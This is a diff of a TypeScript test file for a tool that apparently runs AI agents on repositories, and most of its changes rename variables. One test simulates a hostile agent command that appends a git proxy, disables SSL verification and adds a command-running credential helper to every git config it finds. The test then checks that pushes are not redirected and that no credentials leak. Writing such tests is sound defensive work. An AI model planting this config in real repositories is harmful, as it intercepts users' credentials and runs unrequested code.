@@ -19,14 +19,14 @@ async function hostOf() {
 
 /** Somebody who writes down what is sent there. */
 async function openListener() {
-  const heard: string[] = [];
+  const received: string[] = [];
   const server = createServer((request, response) => {
-    heard.push(`${request.method} ${request.url} ${request.headers.authorization ?? ""}`);
+    received.push(`${request.method} ${request.url} ${request.headers.authorization ?? ""}`);
     response.writeHead(502).end();
   });
   await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
   onTestFinished(() => new Promise((done) => server.close(() => done())));
-  return { heard, port: (server.address() as AddressInfo).port };
+  return { heard: received, port: (server.address() as AddressInfo).port };
 }
 
 // What holds without walls; what holds behind them is in test/security.
@@ -40,7 +40,7 @@ const loop = {
 
 test("settings that an agent writes into our repositories do not redirect our pushes", async () => {
   const host = await hostOf();
-  const { heard, port } = await openListener();
+  const { heard: received, port } = await openListener();
   const evil = `[http]\\n\\tproxy = http://127.0.0.1:${port}\\n\\tsslVerify = false\\n[credential]\\n\\thelper = !touch ${"$PWD"}/owned\\n`;
   const agent = `find "$RUNNER_TEMP" "$HOME" . -name config -path '*git*' -exec sh -c 'printf "${evil}" >> "$1"' _ {} \\; ; echo green > state.txt; echo done`;
   const result = await useOnHost({
@@ -49,7 +49,7 @@ test("settings that an agent writes into our repositories do not redirect our pu
   });
   expect(result.outputs, result.log.join("\n")).toMatchObject({ conclusion: "success", branch: "mended" });
   expect(host.git.git("show", "mended:state.txt")).toBe("green");
-  expect(heard).toEqual([]);
+  expect(received).toEqual([]);
   await expect(readFile(join(result.workspace, "owned"))).rejects.toThrow();
 });
 
@@ -181,9 +181,9 @@ test.runIf(existsSync("/proc/self/stat"))(
       },
     });
     expect(result.outputs["conclusion"], result.log.join("\n")).toBe("success");
-    const said = result.annotations.map(({ message }) => message).join("\n");
-    expect(said).toMatch(/still running when the run ended or paused, and killed: sleep 1000/);
-    expect(said).toMatch(
+    const messages = result.annotations.map(({ message }) => message).join("\n");
+    expect(messages).toMatch(/still running when the run ended or paused, and killed: sleep 1000/);
+    expect(messages).toMatch(
       /left out, because another part of the run was active during its last check.*: late\.txt/,
     );
     expect(host.git.git("diff", "--name-only", "main", "mended")).toBe("state.txt");
